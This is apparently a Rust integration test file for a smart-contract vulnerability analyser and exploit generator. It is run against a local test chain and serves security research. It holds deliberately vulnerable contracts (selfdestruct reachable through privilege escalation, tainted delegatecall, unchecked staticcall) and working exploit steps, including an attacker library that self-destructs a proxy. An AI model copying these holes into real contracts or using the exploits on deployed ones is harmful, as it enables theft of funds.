//! Whole-pipeline integration tests: source → bytecode → deploy →
//! analyze → exploit → verify, spanning every crate.

use chain::abi::encode_call;
use chain::TestNet;
use corpus::{Population, PopulationConfig};
use ethainter::{analyze_bytecode, Config, Vuln};
use evm::{Address, U256, World};
use kill::{exploit, KillConfig};

fn deploy(src: &str, funds: u64) -> (TestNet, Address, ethainter::Report) {
    let compiled = minisol::compile_source(src).unwrap();
    let mut net = TestNet::new();
    let deployer = net.funded_account(U256::from(1_000u64));
    let addr = net.deploy(deployer, compiled.bytecode.clone());
    for (slot, value) in &compiled.initial_storage {
        net.state_mut().storage_set(addr, *slot, *value);
    }
    net.state_mut().set_balance(addr, U256::from(funds));
    net.state_mut().commit();
    let report = analyze_bytecode(&compiled.bytecode, &Config::default());
    (net, addr, report)
}

#[test]
fn paper_section_2_full_story() {
    // Victim: flagged composite, then actually destroyed in 4+ steps;
    // the fixed variant is neither flagged nor destroyable.
    let victim_src = r#"contract Victim {
        mapping(address => bool) admins;
        mapping(address => bool) users;
        address owner;
        modifier onlyAdmins() { require(admins[msg.sender]); _; }
        modifier onlyUsers() { require(users[msg.sender]); _; }
        function registerSelf() public { users[msg.sender] = true; }
        function referUser(address u) public onlyUsers { users[u] = true; }
        function referAdmin(address a) public onlyUsers { admins[a] = true; }
        function changeOwner(address o) public onlyAdmins { owner = o; }
        function kill() public onlyAdmins { selfdestruct(owner); }
    }"#;
    let (net, victim, report) = deploy(victim_src, 555);
    assert!(report.has(Vuln::AccessibleSelfDestruct));
    assert!(report.has(Vuln::TaintedSelfDestruct));
    let outcome = exploit(&net, victim, &report, &KillConfig::default());
    assert!(outcome.destroyed);
    assert_eq!(outcome.funds_recovered, U256::from(555u64));

    let fixed_src = victim_src.replace(
        "function referAdmin(address a) public onlyUsers",
        "function referAdmin(address a) public onlyAdmins",
    );
    let (net2, fixed, report2) = deploy(&fixed_src, 555);
    assert!(!report2.has(Vuln::AccessibleSelfDestruct), "{:?}", report2.findings);
    // Even when handed the (bogus) claim, Kill cannot destroy it.
    let forged = ethainter::Report {
        findings: report.findings.clone(),
        ..ethainter::Report::default()
    };
    let outcome2 = exploit(&net2, fixed, &forged, &KillConfig::default());
    assert!(!outcome2.destroyed);
}

#[test]
fn analysis_agrees_with_concrete_exploitability_on_population() {
    // For every selfdestruct-killable contract in a small population,
    // Ethainter + Kill must reproduce destruction (except the known
    // dynamic-storage FN); for every non-killable contract, Kill must
    // fail even when given the findings.
    let pop = Population::generate(&PopulationConfig {
        size: 60,
        seed: 77,
        ..Default::default()
    });
    let mut net = TestNet::new();
    let addrs = pop.deploy(&mut net);
    let mut killed = 0;
    let mut killable = 0;
    for (c, &addr) in pop.contracts.iter().zip(&addrs) {
        let report = analyze_bytecode(&c.bytecode, &Config::default());
        let outcome = exploit(&net, addr, &report, &KillConfig::default());
        if c.truth.killable && !c.truth.kill_needs_ingenuity && c.family != "hard_dynamic_owner" {
            killable += 1;
            // Delegatecall-killable needs attacker-contract deployment,
            // which Kill does not synthesize (it only does calldata) —
            // only selfdestruct-class reports are in scope.
            if c.truth.exploitable.contains(&Vuln::AccessibleSelfDestruct) {
                assert!(
                    outcome.destroyed,
                    "{} should be killable: {:?}",
                    c.family, outcome.steps
                );
                killed += 1;
            }
        } else {
            assert!(!outcome.destroyed, "{} wrongly destroyed", c.family);
        }
    }
    // The population mix must actually exercise this path.
    assert!(killable == 0 || killed > 0 || pop.contracts.len() < 60);
}

#[test]
fn tainted_delegatecall_is_executable_via_attacker_library() {
    // Show the delegatecall class is genuinely exploitable: the attacker
    // points the proxy at a library whose fallback selfdestructs the
    // *caller's* context.
    let proxy_src = r#"contract Proxy {
        function migrate(address delegate) public { delegatecall(delegate); }
    }"#;
    // Library runtime: SELFDESTRUCT(CALLER) on the empty-calldata path.
    let mut asm = evm::asm::Asm::new();
    asm.op(evm::Opcode::Caller).op(evm::Opcode::SelfDestruct);
    let lib_code = asm.assemble();

    let (mut net, proxy, report) = deploy(proxy_src, 99);
    assert!(report.has(Vuln::TaintedDelegateCall));
    let attacker = net.funded_account(U256::from(10u64));
    let lib = net.deploy(attacker, lib_code);
    let r = net.call_traced(
        attacker,
        proxy,
        chain::abi::encode_call_addr("migrate(address)", lib),
        U256::ZERO,
    );
    assert!(r.success);
    // delegatecall ran the library's SELFDESTRUCT in the *proxy's*
    // context: the proxy is gone, its funds went to the attacker
    // (CALLER inside the delegate frame is the original caller).
    assert!(net.is_destroyed(proxy));
    assert!(!net.is_destroyed(lib));
}

#[test]
fn unchecked_staticcall_exploit_forges_trusted_output() {
    // End-to-end §3.5: a short-returning "wallet" lets the attacker pass
    // their own input off as the verified output.
    let consumer_src = r#"contract Consumer {
        uint approved;
        function verify(address wallet, uint claim) public {
            approved = staticcall_unchecked(wallet, claim);
        }
    }"#;
    let silent_src = "contract Silent { function nop() public {} }";
    let (mut net, consumer, report) = deploy(consumer_src, 0);
    assert!(report.has(Vuln::UncheckedTaintedStaticCall));
    let attacker = net.funded_account(U256::from(10u64));
    let silent = {
        let c = minisol::compile_source(silent_src).unwrap();
        net.deploy(attacker, c.bytecode)
    };
    let claim = U256::from(0x1337_c0deu64);
    let r = net.call(
        attacker,
        consumer,
        encode_call("verify(address,uint256)", &[silent.to_u256(), claim]),
        U256::ZERO,
    );
    assert!(r.success);
    assert_eq!(net.state().storage_get(consumer, U256::ZERO), claim);
}

#[test]
fn decompile_timeout_contracts_are_counted_not_crashed() {
    let src = "contract C { function kill() public { selfdestruct(msg.sender); } }";
    let compiled = minisol::compile_source(src).unwrap();
    let program = decompiler::decompile_with_limits(
        &compiled.bytecode,
        decompiler::Limits { max_blocks: 1, max_stmts: 10 },
    );
    let report = ethainter::analyze(&program, &Config::default());
    assert!(report.decompile_failed.is_some());
    assert!(!report.timed_out);
    assert!(report.findings.is_empty());
}

#[test]
fn report_round_trips_through_json() {
    let src = "contract C { function kill(address to) public { selfdestruct(to); } }";
    let compiled = minisol::compile_source(src).unwrap();
    let report = analyze_bytecode(&compiled.bytecode, &Config::default());
    let json = serde_json::to_string_pretty(&report).unwrap();
    let back: ethainter::Report = serde_json::from_str(&json).unwrap();
    assert_eq!(report.findings, back.findings);
}
